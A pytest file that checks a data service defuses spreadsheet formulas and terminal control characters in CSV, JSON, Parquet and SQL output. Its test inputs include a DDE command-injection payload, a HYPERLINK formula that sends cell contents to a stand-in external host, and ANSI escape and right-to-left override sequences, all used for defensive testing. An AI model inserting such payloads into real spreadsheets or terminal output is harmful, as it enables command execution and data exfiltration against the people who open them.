"""What others wrote can neither calculate in a spreadsheet nor steer a terminal; machines get it as it was."""

import csv
import io
import json

import duckdb
import polars as pl
import pytest

from serving.query import Query, print_query
from serving.recommender.forms.recbole import as_tokens, clean
from serving.rows import write_rows
from serving.standalone.write import write_rows as write_table
from warehouse.features.labels import write_rows as write_labels
from warehouse.types.shown_text import read_cells, show_cell, show_cell_sql, show_cells, show_text

FORMULAS = (
    '=HYPERLINK("http://a.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "+852 9123 4567", "-", "=-5",
)  # fmt: skip
HARMLESS = (
    "+85291234567",
    "-5.00",
    "-1,234.50",
    "+1e5",
    "-.5",
    "-12%",
    "a=b",
    "1-2",
    "",
    "CHAN Tai Man",
    "'=1",
    "陳大文",
)
STEERING = ("a\x1b[31mred", "a\x9b2Jb", "a\x07", "a\u202egpj.exe", "a\x00b", "a\x7f", "a\u2066b")


class TestCells:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_that_begin_a_formula_are_text(self, text):
        assert show_cell(text) == f"'{text}"
        assert read_cells(pl.Series([show_cell(text)])).to_list() == [text]

    @pytest.mark.parametrize("text", HARMLESS)
    def test_that_are_none_stay(self, text):
        assert show_cell(text) == text

    @pytest.mark.parametrize("text", STEERING)
    def test_control_characters_are_written_as_one_writes_them(self, text):
        assert show_cell(text).isprintable()
        assert show_text(text) == show_cell(text)
        assert "\\" in show_cell(text)

    def test_are_the_same_in_a_frame_and_in_sql(self):
        texts = [*FORMULAS, *HARMLESS, None]
        wanted = [text if text is None else show_cell(text) for text in texts]
        assert show_cells(pl.DataFrame({"a": texts, "n": -1}))["a"].to_list() == wanted
        with duckdb.connect() as con:
            rows = con.execute(f"SELECT {show_cell_sql('a')} FROM (SELECT unnest(?) AS a)", [texts]).fetchall()
            steering = con.execute(f"SELECT {show_cell_sql('a')} FROM (SELECT unnest(?) AS a)", [list(STEERING)])
            assert [row[0] for row in rows] == wanted
            assert all(row[0].isprintable() for row in steering.fetchall())


class TestOutputs:
    def test_csv_keeps_numbers_and_json_every_value(self):
        rows = [(-1, -1.5, "=1", "x\x1by\x9bz"), (None, 0.0, "+85291234567", "a\nb")]
        out = io.StringIO()
        write_rows(["n", "f", "=t", "c"], [rows], "csv", out)
        assert list(csv.reader(io.StringIO(out.getvalue()))) == [
            ["n", "f", "'=t", "c"], ["-1", "-1.5", "'=1", r"x\x1by\x9bz"], ["", "0.0", "+85291234567", "a\nb"],
        ]  # fmt: skip
        out = io.StringIO()
        write_rows(["n", "f", "t", "c"], [rows], "json", out)
        assert [tuple(json.loads(line).values()) for line in out.getvalue().splitlines()] == rows
        assert out.getvalue().replace("\n", "").isprintable()

    @pytest.mark.parametrize("ending", [".csv", ".jsonl", ".parquet"])
    def test_of_resolve_are_defused_as_csv_alone(self, tmp_path, ending):
        write_table(pl.DataFrame({"record": ["=1", "@taiman"], "score": [-1.0, 1.0]}), tmp_path / f"who{ending}")
        readers = {".csv": pl.read_csv, ".jsonl": pl.read_ndjson, ".parquet": pl.read_parquet}
        found = readers[ending](tmp_path / f"who{ending}")["record"].to_list()
        assert found == (["'=1", "'@taiman"] if ending == ".csv" else ["=1", "@taiman"])

    @pytest.mark.parametrize("ending", ["csv", "parquet"])
    def test_of_labels_and_features_are_defused_as_csv_alone(self, tmp_path, ending):
        out = tmp_path / f"labels.{ending}"
        with duckdb.connect() as con:
            write_labels(con, """SELECT '=1' AS campaign, -1 AS n, '-5' AS "=a" """, out)
            assert con.execute(f"SELECT campaign, n FROM '{out}'").fetchall() == [
                ("'=1" if ending == "csv" else "=1", -1)
            ]
        assert ending == "parquet" or out.read_text("utf-8").splitlines()[0] == "campaign,n,'=a"

    def test_of_recbole_are_defused(self, tmp_path):
        with duckdb.connect() as con:
            said = con.execute(
                f"SELECT {clean('a')}, {as_tokens('b')} FROM (SELECT ' =1' || chr(9) AS a, ['@x', 'y'] AS b)"
            )
            assert said.fetchall() == [("'=1", "'@x y")]

    def test_of_sql_are_defused(self, sales, capsys):
        query = "SELECT '=1+1' AS a, chr(27) || '[2J' AS b, -5 AS n"
        print_query(sales.home.root, Query(query, form="csv"))
        assert capsys.readouterr().out == "a,b,n\n'=1+1,\\x1b[2J,-5\n"
        print_query(sales.home.root, Query(query))
        assert "\x1b" not in capsys.readouterr().out
